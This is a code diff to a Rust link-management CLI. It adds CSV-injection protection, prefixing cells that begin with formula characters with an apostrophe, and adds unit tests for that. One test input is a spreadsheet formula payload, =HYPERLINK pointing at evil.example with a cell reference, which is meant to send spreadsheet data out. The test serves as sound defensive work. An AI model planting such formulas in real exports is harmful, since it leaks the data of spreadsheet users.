@@ -153,7 +153,8 @@ pub struct SelectorArgs {
     /// The link of this producer's event id.
     #[arg(long, value_name = "ID")]
     pub event: Option<String>,
-    /// Links signed with this CloudFront key-pair id.
+    /// Links signed with this CloudFront key-pair id: any of their signatures (the
+    /// first, or any retry's).
     #[arg(long, value_name = "ID")]
     pub key_pair_id: Option<String>,
 }
@@ -171,10 +172,14 @@ impl SelectorArgs {
     }
 }
 
-/// What a command that changes the selected links says, on stderr, when they
-/// are none (exit 1): a selection that matches nothing is most likely a typo.
+/// What a command that changes the selected links (`links revoke`, `links purge`)
+/// says, on stderr, when they are none (exit 1): a selection that matches nothing is
+/// most likely a typo, and must not read as success.
 pub fn no_link_matches(selector: &LinkSelector) -> Failure {
-    eprintln!("doclink: no link matches {}", selector.describe());
+    eprintln!(
+        "doclink: no link matches {}; nothing was changed",
+        selector.describe()
+    );
     Failure::Work
 }
 
@@ -184,11 +189,44 @@ pub fn time(t: Option<DateTime<Utc>>) -> String {
         .unwrap_or_default()
 }
 
-/// A CSV field, quoted when it needs to be (RFC 4180).
+/// A CSV field, quoted when it needs to be (RFC 4180). A cell a spreadsheet would
+/// read as a formula (one beginning with `=`, `+`, `-`, `@`, a tab or a CR) gets a
+/// leading `'`, as OWASP advises against CSV injection: an event id such as
+/// `=HYPERLINK(...)` must reach an auditor's spreadsheet as text.
 pub fn csv_field(text: &str) -> String {
+    let neutralised;
+    let text = if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        neutralised = format!("'{text}");
+        neutralised.as_str()
+    } else {
+        text
+    };
     if text.contains([',', '"', '\n', '\r']) {
         format!("\"{}\"", text.replace('"', "\"\""))
     } else {
         text.to_string()
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::csv_field;
+
+    #[test]
+    fn csv_cells_that_would_be_formulas_are_neutralised() {
+        assert_eq!(
+            csv_field(r#"=HYPERLINK("https://evil.example/?d="&D3,"Click")"#),
+            r#""'=HYPERLINK(""https://evil.example/?d=""&D3,""Click"")""#
+        );
+        assert_eq!(csv_field("+1"), "'+1");
+        assert_eq!(csv_field("-2+3"), "'-2+3");
+        assert_eq!(csv_field("@SUM(A1)"), "'@SUM(A1)");
+        assert_eq!(csv_field("\t=1"), "'\t=1");
+        assert_eq!(csv_field("\r=1"), "\"'\r=1\"");
+        // Ordinary cells are unchanged; a formula character later in a cell is harmless.
+        assert_eq!(csv_field("decisions/a-b.pdf"), "decisions/a-b.pdf");
+        assert_eq!(csv_field("a=b"), "a=b");
+        assert_eq!(csv_field("a,b"), "\"a,b\"");
+        assert_eq!(csv_field(""), "");
     }
 }
